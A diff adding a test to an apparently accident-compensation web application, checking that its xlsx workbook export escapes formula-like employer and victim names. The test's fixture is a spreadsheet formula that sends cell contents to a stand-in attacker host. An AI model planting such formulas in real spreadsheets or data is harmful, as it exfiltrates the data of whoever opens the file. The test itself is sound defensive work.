@@ -386,3 +386,26 @@ def test_a_fund_payment_never_exceeds_the_balance_and_the_balance_follows(app, l
     assert money(balance) in listing
     assert elsewhere.status_code == 404
     assert officer.status_code == 403
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_the_capitalisation_workbook_keeps_formula_like_names_as_text(app, login_as, case):
+    from accidents.models import Victim
+
+    _set_employer(app, case["employer"].id, name=HOSTILE)
+    with app.app_context(), db.transaction() as s:
+        s.execute(sa.update(Victim).where(Victim.id == case["victim"]).values(full_name="@" + HOSTILE[1:]))
+    record = _capitalised(app, login_as, case)
+
+    url = f"/compensation/liquidation/{case['employer'].id}/capitalisation.xlsx"
+    xlsx = login_as(case["officer"]).get(url)
+
+    assert xlsx.status_code == 200
+    book = load_workbook(io.BytesIO(xlsx.data))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
+    assert "'" + HOSTILE in cells  # the employer
+    assert "'@" + HOSTILE[1:] in cells  # the victim, on both sheets
+    assert not [c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert record.claim_id in cells  # numbers stay numbers
